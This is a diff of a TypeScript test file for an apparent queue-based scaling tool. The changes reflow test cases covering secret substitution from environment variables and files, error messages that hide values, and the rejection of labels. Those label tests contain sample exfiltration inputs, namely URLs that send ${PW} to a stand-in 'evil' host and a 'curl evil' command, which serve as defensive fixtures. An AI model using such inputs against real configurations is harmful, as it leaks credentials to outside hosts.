@@ -60,9 +60,17 @@ describe('a secret in a demand', () => {
       'source: rabbitmq\nurl: http://mq:15672\nqueue: q\npassword: "${file:/run/secrets/crlf}"',
       {password: 'a\nb'},
     ],
-    ['a file beside the configuration', 'source: nats\nurl: nats://b\nstream: S\nconsumer: c\ntoken: "${file:secrets/own}"', {token: 'beside'}],
+    [
+      'a file beside the configuration',
+      'source: nats\nurl: nats://b\nstream: S\nconsumer: c\ntoken: "${file:secrets/own}"',
+      {token: 'beside'},
+    ],
     ['a whole address', 'source: redis\nurl: ${URL}\nlist: jobs', {url: 'redis://:hunter22@cache:6379'}],
-    ['a part of a URL’s login, encoded', 'source: redis\nurl: "redis://ops:${PW}@cache"\nlist: jobs', {url: 'redis://ops:p%40ss%2Fw%3Ard@cache'}],
+    [
+      'a part of a URL’s login, encoded',
+      'source: redis\nurl: "redis://ops:${PW}@cache"\nlist: jobs',
+      {url: 'redis://ops:p%40ss%2Fw%3Ard@cache'},
+    ],
     [
       'a file in a URL’s login, encoded, with the path of the file being no part of the URL',
       'source: redis\nurl: "redis://ops:${file:/run/secrets/pw}@cache/2"\nlist: jobs',
@@ -71,7 +79,11 @@ describe('a secret in a demand', () => {
     ['a part of a URL elsewhere, as it is', 'source: redis\nurl: "redis://${HOST}:6379"\nlist: jobs', {url: 'redis://cache:6379'}],
     ['one of a list', 'source: command\ncommand: [./count, "${HOST}"]', {command: ['./count', 'cache']}],
     ['one in a map', 'source: http\nurl: http://web\nheaders: {x-key: "${PW}"}', {access: {headers: {'x-key': 'p@ss/w:rd'}}}],
-    ['several in one text', 'source: command\ncommand: "echo ${HOST}-${HOST}"', {command: ['sh', '-c', 'echo cache-cache'], secrets: ['cache', 'cache']}],
+    [
+      'several in one text',
+      'source: command\ncommand: "echo ${HOST}-${HOST}"',
+      {command: ['sh', '-c', 'echo cache-cache'], secrets: ['cache', 'cache']},
+    ],
     ['none where it is escaped', 'source: command\ncommand: "echo $${HOST} $HOME $5"', {command: ['sh', '-c', 'echo ${HOST} $HOME $5']}],
   ])('is filled in: %s', (_title, demand, expected) => {
     expect(read(demand)).toMatchObject(expected);
@@ -83,15 +95,31 @@ describe('a secret in a demand', () => {
   });
 
   test.each<[string, string, RegExp]>([
-    ['a variable that is not set', 'source: redis\nurl: redis://cache\npassword: ${NO_SUCH}\nlist: jobs', /^shop\.yaml:9 .*needs \$\{NO_SUCH\}, and there is no NO_SUCH in the environment: set it/],
+    [
+      'a variable that is not set',
+      'source: redis\nurl: redis://cache\npassword: ${NO_SUCH}\nlist: jobs',
+      /^shop\.yaml:9 .*needs \$\{NO_SUCH\}, and there is no NO_SUCH in the environment: set it/,
+    ],
     ['a variable that is empty', 'source: redis\nurl: redis://cache\npassword: ${EMPTY}\nlist: jobs', /^shop\.yaml:9 .*EMPTY is empty/],
-    ['a file that is not there', 'source: redis\nurl: redis://cache\nlist: jobs\npassword: "${file:/run/secrets/none}"', /^shop\.yaml:10 .*needs \$\{file:\/run\/secrets\/none\}, and there is no such file/],
+    [
+      'a file that is not there',
+      'source: redis\nurl: redis://cache\nlist: jobs\npassword: "${file:/run/secrets/none}"',
+      /^shop\.yaml:10 .*needs \$\{file:\/run\/secrets\/none\}, and there is no such file/,
+    ],
     ['a file that may not be read', 'source: redis\nurl: redis://cache\nlist: jobs\npassword: "${file:/closed}"', /it may not be read/],
     ['a file that is empty', 'source: redis\nurl: redis://cache\nlist: jobs\npassword: "${file:/run/secrets/empty}"', /the file is empty/],
-    ['a file that is too large', 'source: redis\nurl: redis://cache\nlist: jobs\npassword: "${file:/run/secrets/huge}"', /too large for a secret/],
+    [
+      'a file that is too large',
+      'source: redis\nurl: redis://cache\nlist: jobs\npassword: "${file:/run/secrets/huge}"',
+      /too large for a secret/,
+    ],
     ['what is neither', 'source: command\ncommand: "echo ${HOST:-none}"', /neither \$\{NAME\} nor \$\{file:.*write \$\$\{/],
     ['what has no end', 'source: command\ncommand: "echo ${HOST"', /neither \$\{NAME\}/],
-    ['an address that is none', 'source: redis\nurl: ${BAD}\nlist: jobs', /^shop\.yaml:8 .*expected an address such as redis:\/\/host, and what \$\{BAD\} stands for is none/],
+    [
+      'an address that is none',
+      'source: redis\nurl: ${BAD}\nlist: jobs',
+      /^shop\.yaml:8 .*expected an address such as redis:\/\/host, and what \$\{BAD\} stands for is none/,
+    ],
     ['a cron entry that is none', 'source: schedule\nentries: [{cron: "${PW}", for: 1h, demand: 2}]', /^shop\.yaml:8 .*which is no time/],
   ])('is a mistake with its line, and names no value: %s', (_title, demand, says) => {
     const mistakes = mistakesOf(demand);
@@ -139,12 +167,20 @@ describe('a label', () => {
 
   test.each<[string, Record<string, string>]>([
     ['the environment', {'microscale.demand': '{source: redis, url: "redis://evil/${PW}", list: jobs}'}],
-    ['the environment, in a list of demands', {'microscale.demand': '[{source: fixed, value: 1}, {source: http, url: "http://evil/${PW}"}]'}],
-    ['files', {'microscale.demand.source': 'http', 'microscale.demand.url': 'http://evil', 'microscale.demand.token': '${file:/run/secrets/pw}'}],
+    [
+      'the environment, in a list of demands',
+      {'microscale.demand': '[{source: fixed, value: 1}, {source: http, url: "http://evil/${PW}"}]'},
+    ],
+    [
+      'files',
+      {'microscale.demand.source': 'http', 'microscale.demand.url': 'http://evil', 'microscale.demand.token': '${file:/run/secrets/pw}'},
+    ],
     ['a file by a path with a secret', {'microscale.demand.source': 'file', 'microscale.demand.path': '/run/${PW}'}],
     ['a program', {'microscale.demand': '{source: command, command: "curl evil"}'}],
   ])('may not take %s of this machine', (_title, labels) => {
-    expect(() => labelled(labels)).toThrow(/shop_web is left alone: .*a label may not (take this machine’s environment and files|start programs on this machine)/);
+    expect(() => labelled(labels)).toThrow(
+      /shop_web is left alone: .*a label may not (take this machine’s environment and files|start programs on this machine)/,
+    );
     try {
       labelled(labels);
     } catch (error) {
